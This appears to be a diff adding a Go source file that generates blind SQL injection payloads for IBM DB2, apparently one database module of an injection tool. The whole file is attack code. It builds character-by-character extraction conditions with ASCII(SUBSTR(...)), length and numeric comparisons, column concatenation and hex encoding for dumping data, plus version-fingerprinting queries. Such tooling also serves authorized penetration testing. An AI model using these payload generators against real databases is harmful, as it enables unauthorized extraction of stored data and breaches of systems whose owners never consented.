@@ -0,0 +1,80 @@
+package payloads
+
+import (
+	"fmt"
+	"strings"
+)
+
+// DB2Payloads implements payloads for IBM DB2
+type DB2Payloads struct{}
+
+func (d *DB2Payloads) GetType() DatabaseType {
+	return DB2
+}
+
+func (d *DB2Payloads) GetName() string {
+	return "DB2"
+}
+
+func (d *DB2Payloads) GetVersionQueries() []string {
+	return []string{
+		"SELECT service_level FROM sysibmadm.env_inst_info",
+		"SELECT GETVARIABLE('SYSIBM.VERSION') FROM sysibm.sysdummy1",
+	}
+}
+
+func (d *DB2Payloads) GetLengthPayload(query string, n int) string {
+	// LENGTH((query))>n - pure condition
+	return fmt.Sprintf("LENGTH((%s))>%d", query, n)
+}
+
+func (d *DB2Payloads) GetComparisonPayload(query string, n int) string {
+	// (query)>n - pure numeric comparison
+	return fmt.Sprintf("(%s)>%d", query, n)
+}
+
+func (d *DB2Payloads) GetEqualityPayload(query string, pos int, charCode int) string {
+	// ASCII(SUBSTR((query),pos,1))=charCode
+	return fmt.Sprintf("ASCII(SUBSTR((%s),%d,1))=%d", query, pos, charCode)
+}
+
+func (d *DB2Payloads) GetCharPayload(query string, pos int, n int) string {
+	// ASCII(SUBSTR((query),pos,1))>n - pure condition
+	// Note: DB2 uses SUBSTR, not SUBSTRING
+	return fmt.Sprintf("ASCII(SUBSTR((%s),%d,1))>%d", query, pos, n)
+}
+
+func (d *DB2Payloads) GetCodePayload(query string, pos int, n int) string {
+	// No portable code point function: chars are read as bytes and decoded
+	// afterward, see ReadsCodePoints
+	return d.GetCharPayload(query, pos, n)
+}
+
+func (d *DB2Payloads) GetConcatPayload(columns []string, delim string) string {
+	cells := make([]string, len(columns))
+	for i, col := range columns {
+		cells[i] = fmt.Sprintf("COALESCE(CAST(%s AS VARCHAR(4000)),'')", col)
+	}
+	return strings.Join(cells, fmt.Sprintf("||'%s'||", delim))
+}
+
+func (d *DB2Payloads) GetHexQuery(query string) string {
+	return fmt.Sprintf("HEX((%s))", query)
+}
+
+func (d *DB2Payloads) GetSubstringFunc() string {
+	return "SUBSTR"
+}
+
+func (d *DB2Payloads) GetLengthFunc() string {
+	return "LENGTH"
+}
+
+func (d *DB2Payloads) WrapCondition(condition string) string {
+	return condition
+}
+
+func (d *DB2Payloads) QuoteIdentifier(name string) string {
+	// Quoted names are case-sensitive, only quote when needed
+	return quoteIdentifier(name, `"`, `"`, needsQuoting)
+}